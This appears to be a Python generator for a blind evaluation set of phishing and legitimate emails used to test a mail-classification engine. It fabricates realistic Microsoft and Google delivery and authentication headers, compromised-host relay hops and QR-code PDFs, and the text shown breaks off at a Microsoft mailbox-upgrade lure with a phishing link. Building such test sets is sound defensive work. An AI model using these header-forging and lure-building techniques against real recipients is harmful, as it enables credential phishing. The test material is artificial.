"""Blind evaluation set 35: the common case of 2025-2026 as public phishing collections hold it.

Population: what honeypot and spam-trap mailboxes (personal Outlook.com/Hotmail/Gmail addresses, in
English, Brazilian Portuguese and Spanish) and the "report phishing" buttons of ordinary companies
receive most, weighted by frequency: Microsoft 365/Outlook account and mailbox lures, bank and card
lures (Brazilian, Mexican, US, UK banks), delivery and toll/fine lures (Correios, USPS, DHL, E-ZPass,
traffic fines), streaming/subscription lures (Netflix, Disney+, antivirus renewals), crypto wallet and
exchange lures, tax refunds, prize/loyalty-point lures (airline miles, Livelo, supermarket rewards),
document shares, voicemail, invoices with HTML or PDF attachments, QR codes, sextortion, advance fee.
Senders as they really are in those collections: random compromised domains, free mailboxes,
look-alikes, bulk ESPs, spoofs failing DMARC, and Microsoft's own Authentication-Results headers for
the Outlook.com mailboxes. The 25 legitimate messages are what the same mailboxes genuinely receive
from those same brands and services (bank alerts, delivery notices, Microsoft account notices,
streaming receipts, newsletters, marketplace mail) plus a few personal messages.

Run it with:

    cd /work/main && .venv/bin/python samples/tools/build_blind35_samples.py

It deletes samples/mail/*/b35-*.eml, writes the 75 messages into samples/mail/<folder>/ and the
manifest samples/tools/blind35_manifest.txt. Output is deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
import hashlib
import io
import sys
import zlib
from datetime import datetime, timedelta, timezone
from email import policy
from email.parser import BytesParser
from pathlib import Path

TOOLS = Path(__file__).resolve().parent
sys.path.insert(0, str(TOOLS))

import files  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

ROOT = TOOLS.parent.parent
MAIL = ROOT / "samples" / "mail"
MANIFEST = TOOLS / "blind35_manifest.txt"

# Maintainer's corrections after the first scan: filed where the engine's classification puts them
# (the names keep the writer's kind).
REFILED: dict[str, str] = {
    # A link to a download, no program in the message: the engine names the lure phishing (URL_PROGRAM_DOWNLOAD's rule).
    "b35-phish-nfe-danfe-zip": "phishing",
    "b35-phish-sat-cfdi-zip": "phishing",
    "b35-legit-sharepoint-share-colleague": "bulk",
    "b35-legit-bbva-mx-compra": "clean",
    "b35-legit-paypal-recibo-spotify": "clean",
}

# ---------------------------------------------------------------------------------------------
# deterministic filler: ids, signatures, checksums
# ---------------------------------------------------------------------------------------------


def _stream(seed: str, n: int) -> bytes:
    out = b""
    i = 0
    while len(out) < n:
        out += hashlib.sha256(f"{seed}/{i}".encode()).digest()
        i += 1
    return out[:n]


def hx(seed: str, n: int, upper: bool = False) -> str:
    value = _stream(seed, n).hex()[:n]
    return value.upper() if upper else value


def b64(seed: str, n: int) -> str:
    return base64.b64encode(_stream(seed, n)).decode()[:n]


def b64url(seed: str, n: int) -> str:
    return b64(seed, n).replace("+", "-").replace("/", "_")


ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
UPNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"


def aln(seed: str, n: int, alphabet: str = ALNUM) -> str:
    return "".join(alphabet[b % len(alphabet)] for b in _stream(seed, n))


def digits(seed: str, n: int) -> str:
    return aln(seed, n, "0123456789")


def guid(seed: str) -> str:
    v = hx(seed, 32)
    return f"{v[:8]}-{v[8:12]}-{v[12:16]}-{v[16:20]}-{v[20:]}"


def fold(line: str, width: int = 78, indent: str = " ", split_long: bool = False) -> str:
    """Fold a header line at spaces; with split_long, long tokens (base64) are cut too."""
    out: list[str] = []
    cur = ""
    for word in line.split(" "):
        pieces = [word]
        if split_long and len(word) > width - 10:
            step = width - 10
            pieces = [word[i:i + step] for i in range(0, len(word), step)]
        for piece in pieces:
            if cur and len(cur) + 1 + len(piece) > width:
                out.append(cur)
                cur = piece
            else:
                cur = f"{cur} {piece}" if cur else piece
    out.append(cur)
    return ("\n" + indent).join(out)


def ew(value: str, mode: str = "B", charset: str = "UTF-8") -> str:
    """RFC 2047 encoded words, only when needed."""
    if all(ord(c) < 128 for c in value):
        return value
    words: list[str] = []
    chunk = ""
    for ch in value:
        if len((chunk + ch).encode(charset)) > 42:
            words.append(chunk)
            chunk = ""
        chunk += ch
    words.append(chunk)
    out = []
    for w in words:
        raw = w.encode(charset)
        if mode == "B":
            out.append(f"=?{charset}?B?{base64.b64encode(raw).decode()}?=")
        else:
            enc = ""
            for byte in raw:
                c = chr(byte)
                if c.isalnum() and byte < 128:
                    enc += c
                elif c == " ":
                    enc += "_"
                else:
                    enc += f"={byte:02X}"
            out.append(f"=?{charset}?Q?{enc}?=")
    return "\n ".join(out)


def addr(name: str, address: str, mode: str = "B", charset: str = "UTF-8") -> str:
    if not name:
        return f"<{address}>"
    if all(ord(c) < 128 for c in name):
        if any(c in name for c in ',.;:()[]@"|'):
            return f'"{name}" <{address}>'
        return f"{name} <{address}>"
    return f"{ew(name, mode, charset)} <{address}>"


# ---------------------------------------------------------------------------------------------
# dates
# ---------------------------------------------------------------------------------------------

DAYS = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"]
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]


def at(y: int, mo: int, d: int, h: int, mi: int, s: int = 0) -> datetime:
    return datetime(y, mo, d, h, mi, s, tzinfo=timezone.utc)


def rfc(t: datetime, off: int = 0, pad: bool = False, zone: str = "") -> str:
    """RFC 5322 date of UTC instant t shown at offset ``off`` minutes."""
    lt = t + timedelta(minutes=off)
    sign = "+" if off >= 0 else "-"
    o = abs(off)
    day = f"{lt.day:02d}" if pad else str(lt.day)
    out = f"{DAYS[lt.weekday()]}, {day} {MONTHS[lt.month - 1]} {lt.year} {lt:%H:%M:%S} {sign}{o // 60:02d}{o % 60:02d}"
    return out + (f" ({zone})" if zone else "")


def _nth_sunday(year: int, month: int, n: int) -> int:
    first = datetime(year, month, 1).weekday()
    return 1 + (6 - first) % 7 + 7 * (n - 1)


def pacific(t: datetime) -> str:
    y = t.year
    start = at(y, 3, _nth_sunday(y, 3, 2), 10, 0)  # 02:00 PST
    end = at(y, 11, _nth_sunday(y, 11, 1), 9, 0)  # 02:00 PDT
    if start <= t < end:
        return rfc(t, -420, zone="PDT")
    return rfc(t, -480, zone="PST")


def epoch(t: datetime) -> int:
    return int(t.timestamp())


def ms_time(t: datetime, seed: str) -> str:
    return f"{t.day:02d} {MONTHS[t.month - 1]} {t.year} {t:%H:%M:%S}.{digits(seed, 4)} (UTC)"


def exch_build(t: datetime) -> str:
    months = (t.year - 2024) * 12 + t.month
    return f"15.20.{7300 + months * 47}.{10 + t.day % 17}"


# ---------------------------------------------------------------------------------------------
# DKIM and authentication results
# ---------------------------------------------------------------------------------------------


def dkim(d: str, s: str, t: datetime, h: str, seed: str, bits: int = 2048, extra: str = "",
         name: str = "DKIM-Signature", algo: str = "rsa-sha256") -> str:
    b = b64(seed + "b", 344 if bits == 2048 else 172)
    bh = b64(seed + "bh", 43) + "="
    lines = [f"{name}: v=1; a={algo}; c=relaxed/relaxed; d={d};", f"s={s}; t={epoch(t)};{extra}"]
    cur = "h="
    names = h.split(":")
    for i, field in enumerate(names):
        piece = field + (":" if i < len(names) - 1 else ";")
        if len(cur) + len(piece) > 72 and cur != "h=":
            lines.append(cur)
            cur = piece
        else:
            cur += piece
    lines.append(cur)
    lines.append(f"bh={bh};")
    lines.append("b=" + b[:68])
    lines += [b[i:i + 70] for i in range(68, len(b), 70)]
    return "\n\t".join(lines)


class Auth:
    """What the receiving server concluded about one message."""

    def __init__(self, mailfrom: str, spf: str, hfrom: str, dmarc: str, dkim_d: str = "", dkim_res: str = "none",
                 selector: str = "s1", action: str = "none", policy_: str = "", compauth: str = "", reason: str = ""):
        self.mailfrom = mailfrom  # full envelope sender
        self.spf = spf  # pass fail softfail none neutral
        self.hfrom = hfrom  # header From domain
        self.dmarc = dmarc  # pass fail none bestguesspass
        self.dkim_d = dkim_d
        self.dkim_res = dkim_res
        self.selector = selector
        self.action = action
        self.policy = policy_  # e.g. "p=REJECT sp=REJECT dis=NONE" for Google
        self.compauth = compauth
        self.reason = reason

    @property
    def mf_domain(self) -> str:
        return self.mailfrom.rsplit("@", 1)[-1]


def ms_auth(a: Auth, ip: str, helo: str) -> list[str]:
    dom = a.mf_domain
    spf_text = {"pass": "pass", "fail": "fail", "softfail": "softfail", "none": "none", "neutral": "neutral"}[a.spf]
    if a.dkim_res == "pass":
        dk = f"dkim=pass (signature was verified) header.d={a.dkim_d};"
    elif a.dkim_res == "fail":
        dk = f"dkim=fail (body hash did not verify) header.d={a.dkim_d};"
    else:
        dk = "dkim=none (message not signed) header.d=none;"
    comp = a.compauth or {"pass": "pass", "bestguesspass": "pass", "fail": "fail", "none": "softpass"}[a.dmarc]
    reason = a.reason or {"pass": "100", "bestguesspass": "109", "fail": "000", "none": "201"}[a.dmarc]
    res = (f"Authentication-Results: spf={spf_text} (sender IP is {ip}) smtp.mailfrom={dom}; {dk}"
           f"dmarc={a.dmarc} action={a.action} header.from={a.hfrom};compauth={comp} reason={reason}")
    if a.spf == "pass":
        rspf = (f"Received-SPF: Pass (protection.outlook.com: domain of {dom} designates {ip} as permitted sender) "
                f"receiver=protection.outlook.com; client-ip={ip}; helo={helo}; pr=C")
    elif a.spf == "fail":
        rspf = (f"Received-SPF: Fail (protection.outlook.com: domain of {dom} does not designate {ip} as permitted "
                f"sender) receiver=protection.outlook.com; client-ip={ip}; helo={helo};")
    elif a.spf == "softfail":
        rspf = (f"Received-SPF: SoftFail (protection.outlook.com: domain of transitioning {dom} discourages use of "
                f"{ip} as permitted sender)")
    elif a.spf == "neutral":
        rspf = (f"Received-SPF: Neutral (protection.outlook.com: {ip} is neither permitted nor denied by domain of "
                f"{dom}) receiver=protection.outlook.com; client-ip={ip}; helo={helo};")
    else:
        rspf = f"Received-SPF: None (protection.outlook.com: {dom} does not designate permitted sender hosts)"
    return [fold(res), fold(rspf)]


def google_auth(a: Auth, ip: str, header_b: str) -> str:
    parts = []
    if a.dkim_res == "pass":
        parts.append(f"dkim=pass header.i=@{a.dkim_d} header.s={a.selector} header.b={header_b}")
    elif a.dkim_res == "fail":
        parts.append(f"dkim=fail header.i=@{a.dkim_d} header.s={a.selector} header.b={header_b}")
    mf = a.mailfrom
    if a.spf == "pass":
        parts.append(f"spf=pass (google.com: domain of {mf} designates {ip} as permitted sender) smtp.mailfrom={mf}")
    elif a.spf == "fail":
        parts.append(f"spf=fail (google.com: domain of {mf} does not designate {ip} as permitted sender) "
                     f"smtp.mailfrom={mf}")
    elif a.spf == "softfail":
        parts.append(f"spf=softfail (google.com: domain of transitioning {mf} does not designate {ip} as permitted "
                     f"sender) smtp.mailfrom={mf}")
    elif a.spf == "neutral":
        parts.append(f"spf=neutral (google.com: {ip} is neither permitted nor denied by best guess record for domain "
                     f"of {mf}) smtp.mailfrom={mf}")
    else:
        parts.append(f"spf=none (google.com: {mf} does not designate permitted sender hosts) smtp.mailfrom={mf}")
    if a.dmarc in ("pass", "fail"):
        parts.append(f"dmarc={a.dmarc} ({a.policy}) header.from={a.hfrom}")
    return ";\n       ".join(parts)


def google_received_spf(a: Auth, ip: str) -> str:
    mf = a.mailfrom
    if a.spf == "pass":
        return f"Received-SPF: pass (google.com: domain of {mf} designates {ip} as permitted sender) client-ip={ip};"
    if a.spf == "fail":
        return (f"Received-SPF: fail (google.com: domain of {mf} does not designate {ip} as permitted sender) "
                f"client-ip={ip};")
    if a.spf == "softfail":
        return (f"Received-SPF: softfail (google.com: domain of transitioning {mf} does not designate {ip} as "
                f"permitted sender) client-ip={ip};")
    if a.spf == "neutral":
        return (f"Received-SPF: neutral (google.com: {ip} is neither permitted nor denied by best guess record for "
                f"domain of {mf}) client-ip={ip};")
    return f"Received-SPF: none (google.com: {mf} does not designate permitted sender hosts) client-ip={ip};"


# ---------------------------------------------------------------------------------------------
# receiving side: Outlook.com / Microsoft 365, Gmail / Google Workspace
# ---------------------------------------------------------------------------------------------

CONSUMER_TENANT = "84df9e7f-e9f6-40af-b435-aaaaaaaaaaaa"

TENANTS = {
    # name: (tenant id, region suffix, mailbox prefix style)
    "consumer": (CONSUMER_TENANT, "NAMP223", "consumer"),
    "hartwell": ("3c9e8b1a-5d27-4f60-9b8e-71a4c02d6e15", "namprd12", "corp"),
    "bajio": ("b71f04d2-9a6c-4e3b-8d15-2c6f9e0a4b87", "namprd20", "corp"),
    "valeverde": ("e25a9c47-13b8-4d0f-a6e2-8f4b1c7d9302", "LAMP152", "br"),
}


def _ms_hosts(tenant: str, seed: str) -> dict:
    _, region, style = TENANTS[tenant]
    p1 = ["BN2", "DS3", "SA2", "CH1", "MWH", "CO1", "SN1", "BY2", "DS2", "SJ1"][int(hx(seed + "p", 2), 16) % 10]
    fr_region = f"namprd0{3 + int(hx(seed + 'r', 1), 16) % 3}"
    pepf = f"{p1}PEPF0000{hx(seed + 'pepf', 4, True)}"
    if style == "consumer":
        mbx_pref = ["SA1P223MB", "PH8P223MB", "DS0P223MB", "LV3P223MB", "BL3P223MB", "CH3P223MB"]
        mbx = f"{mbx_pref[int(hx(seed + 'm', 2), 16) % 6]}{digits(seed + 'mb', 4)}.NAMP223.PROD.OUTLOOK.COM"
        mbx2 = f"{mbx_pref[int(hx(seed + 'n', 2), 16) % 6]}{digits(seed + 'mc', 4)}.NAMP223.PROD.OUTLOOK.COM"
        ca = f"{['BN9PR03', 'SJ0PR13', 'MW4PR04', 'CH2PR14', 'BY5PR17'][int(hx(seed + 'c', 2), 16) % 5]}CA{digits(seed + 'ca', 4)}"
        ca_host = f"{ca}.namprd{ca[5:7]}.prod.outlook.com"
        ca_o365 = f"{ca}.outlook.office365.com"
    elif style == "br":
        pepf = f"CP2PEPF0000{hx(seed + 'pepf', 4, True)}"
        fr_region = "LAMP152"
        mbx = f"CP{int(hx(seed, 1), 16) % 6 + 1}P152MB{digits(seed + 'mb', 4)}.LAMP152.PROD.OUTLOOK.COM"
        mbx2 = mbx
        ca = f"RO2P152CA{digits(seed + 'ca', 4)}"
        ca_host = f"{ca}.LAMP152.PROD.OUTLOOK.COM"
        ca_o365 = f"{ca}.outlook.office365.com"
    else:
        num = region[-2:]
        mbx = f"{['PH7PR', 'SA1PR', 'DM6PR', 'BL1PR', 'MN2PR'][int(hx(seed + 'm', 2), 16) % 5]}{num}MB{digits(seed + 'mb', 4)}.{region}.prod.outlook.com"
        mbx2 = mbx
        ca = f"{['BN9PR03', 'SJ0PR13', 'MW4PR04', 'CH2PR14', 'BY5PR17'][int(hx(seed + 'c', 2), 16) % 5]}CA{digits(seed + 'ca', 4)}"
        ca_host = f"{ca}.namprd{ca[5:7]}.prod.outlook.com"
        ca_o365 = f"{ca}.outlook.office365.com"
    v6 = lambda s: f"2603:10b6:{int(hx(s, 3), 16) % 900 + 100}:{hx(s + 'x', 2)}::{int(hx(s + 'y', 2), 16) % 60 + 1}"  # noqa: E731
    return {
        "pepf_host": f"{pepf}.{fr_region}.prod.outlook.com",
        "pepf_mx": f"{pepf}.mail.protection.outlook.com",
        "pepf": pepf,
        "mbx": mbx,
        "mbx2": mbx2,
        "ca_host": ca_host,
        "ca_o365": ca_o365,
        "v6a": v6(seed + "a"),
        "v6b": v6(seed + "b"),
        "v6c": v6(seed + "c").replace("::", ":cafe::"),
        "fe_ip": f"10.167.{int(hx(seed + 'f', 2), 16) % 250 + 1}.{int(hx(seed + 'g', 2), 16) % 250 + 1}",
    }


def outlook_in(seed: str, t: datetime, rcpt: str, ip: str, ptr: str, helo: str, a: Auth, sender: str,
               tenant: str = "consumer", scl: int = 1, cat: str = "NONE", lang: str = "en", ctry: str = "US",
               bulk: bool = False, tls: str = "TLS1_3", sfs_seed: str = "") -> str:
    """Headers of a message delivered to an Outlook.com / Microsoft 365 mailbox, around ``sender``."""
    hosts = _ms_hosts(tenant, seed)
    tenant_id = TENANTS[tenant][0]
    build = exch_build(t)
    t1, t2, t3 = t + timedelta(seconds=1), t + timedelta(seconds=2), t + timedelta(seconds=3)
    cipher = "TLS_AES_256_GCM_SHA384" if tls == "TLS1_3" else "TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384"
    top = []
    if TENANTS[tenant][2] == "consumer":
        top.append(fold(f"Received: from {hosts['mbx']} (::1) by {hosts['mbx2']} with HTTPS; {rfc(t3)}"))
    top.append(fold(f"Received: from {hosts['ca_host']} ({hosts['v6a']}) by {hosts['mbx']} ({hosts['v6b']}) with "
                    f"Microsoft SMTP Server (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {build}; "
                    f"{rfc(t2)}"))
    top.append(fold(f"Received: from {hosts['pepf_host']} ({hosts['v6c']}) by {hosts['ca_o365']} ({hosts['v6a']}) "
                    f"with Microsoft SMTP Server (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id {build} via "
                    f"Frontend Transport; {rfc(t2)}"))
    top += ms_auth(a, ip, helo)
    top.append(fold(f"Received: from {helo} ({ip}) by {hosts['pepf_mx']} ({hosts['fe_ip']}) with Microsoft SMTP "
                    f"Server (version={tls}, cipher={cipher}) id {build} via Frontend Transport; {rfc(t1)}"))
    count = sender.count("\n") + 1
    top.append(f"X-IncomingTopHeaderMarker: OriginalChecksum:{hx(seed + 'oc', 64, True)};"
               f"UpperCasedChecksum:{hx(seed + 'uc', 64, True)};SizeAsReceived:{len(sender) + 812};Count:{count}")
    nmid = guid(seed + "nmid")
    sfv = "SPM" if scl >= 5 else "NSPM"
    dest = "J" if scl >= 5 else "I"
    srv = "BULK" if bulk else ""
    bcl = 6 if bulk else 0
    sfs = "".join(f"({digits(seed + sfs_seed + str(i), 10 - i % 3)})" for i in range(7))
    bottom = [
        f"X-IncomingHeaderCount: {count}",
        f"Return-Path: {a.mailfrom}",
        f"X-MS-Exchange-Organization-ExpirationStartTime: {ms_time(t1, seed + 'est')}",
        "X-MS-Exchange-Organization-ExpirationStartTimeReason: OriginalSubmit",
        "X-MS-Exchange-Organization-ExpirationInterval: 1:00:00:00.0000000",
        "X-MS-Exchange-Organization-ExpirationIntervalReason: OriginalSubmit",
        f"X-MS-Exchange-Organization-Network-Message-Id: {nmid}",
        "X-EOPAttributedMessage: 0",
        f"X-EOPTenantAttributedMessage: {tenant_id}:0",
        "X-MS-Exchange-Organization-MessageDirectionality: Incoming",
        "X-MS-PublicTrafficType: Email",
        f"X-MS-TrafficTypeDiagnostic: {hosts['pepf']}:EE_|{hosts['mbx'].split('.')[0]}:EE_",
        f"X-MS-Exchange-Organization-AuthSource: {hosts['pepf_host']}",
        "X-MS-Exchange-Organization-AuthAs: Anonymous",
        f"X-MS-Office365-Filtering-Correlation-Id: {guid(seed + 'corr')}",
        f"X-MS-Exchange-Organization-SCL: {scl}",
        f"X-Microsoft-Antispam: BCL:{bcl};ARA:{digits(seed + 'ara', 10)}|{digits(seed + 'arb', 8)}|{digits(seed + 'arc', 6)};",
        f"X-Forefront-Antispam-Report: CIP:{ip};CTRY:{ctry};LANG:{lang};SCL:{scl};SRV:{srv};IPV:NLI;SFV:{sfv};"
        f"H:{helo};PTR:{ptr};CAT:{cat};SFS:{sfs};DIR:INB;",
        f"X-MS-Exchange-CrossTenant-OriginalArrivalTime: {ms_time(t1, seed + 'oat')}",
        f"X-MS-Exchange-CrossTenant-Network-Message-Id: {nmid}",
        f"X-MS-Exchange-CrossTenant-Id: {tenant_id}",
        f"X-MS-Exchange-CrossTenant-AuthSource: {hosts['pepf_host']}",
        "X-MS-Exchange-CrossTenant-AuthAs: Anonymous",
        "X-MS-Exchange-CrossTenant-FromEntityHeader: Internet",
        f"X-MS-Exchange-Transport-CrossTenantHeadersStamped: {hosts['mbx'].split('.')[0]}",
        f"X-MS-Exchange-Transport-EndToEndLatency: 00:00:0{1 + int(hx(seed + 'lat', 1), 16) % 8}.{digits(seed + 'lt', 7)}",
        f"X-MS-Exchange-Processed-By-BccFoldering: {build.rsplit('.', 1)[0]}.0{build.rsplit('.', 1)[1]}",
        fold(f"X-Microsoft-Antispam-Mailbox-Delivery: ucf:0;jmr:0;auth:0;dest:{dest};OFR:{'SpamFilterAuthJ' if scl >= 5 else 'CustomRules'};"
             f"ENG:(910005)(944506478)(944626604)(920097)(930097)({digits(seed + 'eng', 7)})(140003);"
             + ("RF:JunkEmail;" if scl >= 5 else ""), 78, " "),
        fold(f"X-Microsoft-Antispam-Message-Info: {b64(seed + 'mi', 620)}", 78, " ", split_long=True),
    ]
    if TENANTS[tenant][2] == "consumer":
        frm = a.hfrom
        bottom += [
            f"X-SID-PRA: {sender_from(sender).upper() or frm.upper()}",
            f"X-SID-Result: {'PASS' if a.dmarc in ('pass', 'bestguesspass', 'none') and a.spf != 'fail' else 'FAIL'}",
            f"X-MS-UserLastLogonTime: {(t - timedelta(hours=5, minutes=int(hx(seed + 'll', 2), 16) % 60)):%m/%d/%Y %I:%M:%S %p}",
            "X-MS-Exchange-EOPDirect: true",
        ]
    return "\n".join(top) + "\n" + sender.strip("\n") + "\n" + "\n".join(bottom)


def sender_from(sender: str) -> str:
    for line in sender.split("\n"):
        if line.lower().startswith("from:"):
            if "<" in line:
                return line.split("<", 1)[1].split(">", 1)[0]
            return line.split(":", 1)[1].strip()
    return ""


def gmail_in(seed: str, t: datetime, rcpt: str, ip: str, ptr: str, a: Auth, sender: str,
             tls: str = "TLS1_3", dkim_b: str = "") -> str:
    """Headers of a message delivered to a Gmail / Google Workspace mailbox, around ``sender``."""
    arc_s = "arc-20240605" if t >= at(2024, 7, 1, 0, 0) else "arc-20160816"
    header_b = dkim_b or b64(seed + "hb", 8).replace("+", "x").replace("/", "y")
    res = google_auth(a, ip, header_b)
    t1 = t + timedelta(seconds=1)
    lt = t + timedelta(minutes=int(pacific(t).split()[-2][:3]) * 60)
    smtpid = (f"{hx(seed + 'sid', 14)}-{hx(seed + 'sie', 11)}si{digits(seed + 'si', 7)}"
              f"{aln(seed + 'sl', 3, 'abcdefghijklmnopqrstuvwxyz')}.{int(hx(seed + 'q', 2), 16) % 400 + 100}."
              f"{lt:%Y.%m.%d.%H.%M.%S}")
    if tls == "TLS1_3":
        tlsinfo = "(version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256)"
    elif tls == "TLS1_2":
        tlsinfo = "(version=TLS1_2 cipher=ECDHE-ECDSA-AES128-GCM-SHA256 bits=128/128)"
    else:
        tlsinfo = ""
    method = "ESMTPS" if tlsinfo else "ESMTP"
    ptr_part = f"{ptr}. [{ip}]" if ptr else f"[{ip}]"
    helo = ptr or f"[{ip}]"
    lines = [
        f"Delivered-To: {rcpt}",
        f"Received: by 2002:a05:{hx(seed + 'r1', 4)}:{hx(seed + 'r2', 3)}:b0:{hx(seed + 'r3', 3)}:{hx(seed + 'r4', 4)} with SMTP id "
        f"{aln(seed + 'r5', 4, 'abcdefghijklmnopqrstuvwxyz')}csp{digits(seed + 'r6', 7)}{aln(seed + 'r7', 3, 'abcdefghijklmnopqrstuvwxyz')};\n"
        f"        {pacific(t1)}",
        f"X-Google-Smtp-Source: AGHT+I{b64(seed + 'gss', 84)}",
        f"X-Received: by 2002:a05:6214:{hx(seed + 'x1', 4)}:b0:{hx(seed + 'x2', 3)}:{hx(seed + 'x3', 4)} with SMTP id "
        f"{hx(seed + 'x4', 16)}mr{digits(seed + 'x5', 8)}{aln(seed + 'x6', 3, 'abcdefghijklmnopqrstuvwxyz')}.{int(hx(seed + 'x7', 2), 16)};\n"
        f"        {pacific(t1)}",
        f"ARC-Seal: i=1; a=rsa-sha256; t={epoch(t1)}; cv=none;\n        d=google.com; s={arc_s};\n"
        + "        b=" + "\n         ".join(b64(seed + "as", 344)[i:i + 66] for i in range(0, 344, 66)),
        f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=google.com; s={arc_s};\n"
        f"        h=to:subject:message-id:date:from:mime-version:dkim-signature;\n"
        f"        bh={b64(seed + 'abh', 43)}=;\n"
        f"        fh={b64(seed + 'afh', 43)}=;\n"
        f"        b=" + "\n         ".join(b64(seed + "ams", 344)[i:i + 66] for i in range(0, 344, 66)),
        f"ARC-Authentication-Results: i=1; mx.google.com;\n       {res}",
        f"Return-Path: <{a.mailfrom}>",
        f"Received: from {helo} ({ptr_part})\n        by mx.google.com with {method} id {smtpid}\n"
        f"        for <{rcpt}>\n" + (f"        {tlsinfo};\n" if tlsinfo else "") + f"        {pacific(t)}",
        google_received_spf(a, ip),
        f"Authentication-Results: mx.google.com;\n       {res}",
    ]
    return "\n".join(lines) + "\n" + sender.strip("\n")


# ---------------------------------------------------------------------------------------------
# sender-side helpers
# ---------------------------------------------------------------------------------------------


def exim(host: str, t: datetime, rcpt: str, envfrom: str, seed: str, client: str = "", auth_user: str = "",
         off: int | None = None) -> str:
    """cPanel Exim hop, as on compromised shared hosting."""
    eid = f"{aln(seed + 'e1', 6)}-{aln(seed + 'e2', 7)}-{aln(seed + 'e3', 2)}"
    frm = client or "[127.0.0.1] (port=44218 helo=" + host + ")"
    via = f"with esmtpsa  (TLS1.3) tls TLS_AES_256_GCM_SHA384\n\t(Exim 4.98)\n\t(envelope-from <{envfrom}>)" if auth_user else \
        f"with esmtpa (Exim 4.96.2)\n\t(envelope-from <{envfrom}>)"
    return (f"Received: from {frm}\n\tby {host} {via}\n\tid {eid}\n\tfor {rcpt}; {rfc(t, (-300 if 'gator' in host else -180) if off is None else off)}")


def postfix(host: str, t: datetime, rcpt: str, seed: str, client: str = "localhost (localhost [127.0.0.1])",
            auth: bool = False, off: int = 0) -> str:
    qid = hx(seed + "qid", 11, True)
    w = "ESMTPSA" if auth else "ESMTP"
    return f"Received: from {client}\n\tby {host} (Postfix) with {w} id {qid}\n\tfor <{rcpt}>; {rfc(t, off)}"


def phpmailer_mid(domain: str, seed: str) -> str:
    return f"<{aln(seed + 'pm', 43)}@{domain}>"


def gmail_mid(seed: str) -> str:
    return f"<CA{aln(seed + 'g1', 4)}{aln(seed + 'g2', 42, ALNUM + '-_+')}@mail.gmail.com>"


def outlook_mid(seed: str, host: str) -> str:
    return f"<{host.split('.')[0]}{hx(seed + 'om', 22, True)}@{host}>"


def exchange_mid(seed: str, host: str) -> str:
    short = host.split(".")[0]
    return f"<{short}{hx(seed + 'xm', 16, True)}{hx(seed + 'xn', 8, True)}@{host}>"


def html_page(body: str, title: str = "", head_extra: str = "", lang: str = "") -> str:
    lang_attr = f' lang="{lang}"' if lang else ""
    return (f'<!DOCTYPE html>\n<html{lang_attr}>\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            f'<meta name="viewport" content="width=device-width, initial-scale=1.0">\n'
            + (f"<title>{title}</title>\n" if title else "") + head_extra + "</head>\n" + body + "\n</html>\n")


def alt(plain: str, html: str, boundary: str, enc: str = "quoted-printable", charset: str = "utf-8") -> Multi:
    return Multi("alternative", boundary, [text(plain, "plain", enc, charset), text(html, "html", enc, charset)])


def qr_pdf(url: str, lines: list[str], title: str, qr_y: int = 430, producer: str = "Microsoft: Print To PDF") -> bytes:
    """A one-page PDF with some text and a QR code image of url (grey, Flate)."""
    from PIL import Image

    img = Image.open(io.BytesIO(files.qr_png(url))).convert("L")
    width, height = img.size
    data = zlib.compress(img.tobytes(), 9)
    content = ["BT", "/F1 12 Tf", "16 TL", "60 780 Td"]
    for line in lines:
        content.append(f"({files._pdf_escape(line)}) Tj T*")
    content.append("ET")
    content.append(f"q 190 0 0 190 202 {qr_y} cm /Im1 Do Q")
    stream = "\n".join(content).encode("latin-1")
    objects = files.image_page(stream, data, width, height, "FlateDecode")
    objects.append(f"<< /Title ({files._pdf_escape(title)}) /Producer ({producer}) "
                   f"/CreationDate (D:20250224181200-06'00') >>".encode())
    return files.pdf_file(objects, len(objects))


def pdf_doc(lines: list[str], title: str, date: str, link: tuple | None = None, producer: str = "") -> bytes:
    """files.pdf with its creation date (and optionally producer) replaced, keeping every byte offset."""
    raw = files.pdf(lines, link=link, title=title)
    assert len(date) == len("20261116093000+01'00'")
    raw = raw.replace(b"D:20261116093000+01'00'", f"D:{date}".encode())
    if producer:
        old = b"/Producer (Microsoft: Print To PDF)"
        new = f"/Producer ({producer})".encode()
        assert len(new) == len(old), producer
        raw = raw.replace(old, new)
    return raw


ENTRIES: list[tuple[str, str, str, str, bytes]] = []


def add(stem: str, kind: str, cat: str, description: str, headers: str, body) -> None:
    ENTRIES.append((stem, kind, cat, description, message(headers, body)))


# =============================================================================================
# ATTACKS
# =============================================================================================

CPANEL_H = ("Content-Type:MIME-Version:Message-ID:Date:Subject:To:From:Sender:Reply-To:Cc:"
            "Content-Transfer-Encoding:Content-ID:Content-Description:Resent-Date:Resent-From:Resent-Sender:"
            "Resent-To:Resent-Cc:Resent-Message-ID:In-Reply-To:References:List-Id:List-Help:List-Unsubscribe:"
            "List-Subscribe:List-Post:List-Owner:List-Archive")


def cpanel_antiabuse(host: str, rcpt_domain: str, sender: str, uid: str = "[47 12] / [47 12]") -> str:
    dom = sender.split("@")[1]
    return "\n".join([
        "X-AntiAbuse: This header was added to track abuse, please include it with any abuse report",
        f"X-AntiAbuse: Primary Hostname - {host}",
        f"X-AntiAbuse: Original Domain - {rcpt_domain}",
        f"X-AntiAbuse: Originator/Caller UID/GID - {uid}",
        f"X-AntiAbuse: Sender Address Domain - {dom}",
        f"X-Get-Message-Sender-Via: {host}: authenticated_id: {sender}",
        f"X-Authenticated-Sender: {host}: {sender}",
        "X-Source: ",
        "X-Source-Args: ",
        "X-Source-Dir: ",
    ])


def a01():
    seed = "a01"
    t = at(2025, 3, 11, 14, 7, 41)
    rcpt = "tmarsh_1979@hotmail.com"
    frm = "office@pinecrestdental.net"
    host = "box5812.bluehost.com"
    link = f"https://outlook-mailbox-upgrade.pages.dev/?email={rcpt}"
    sender = "\n".join([
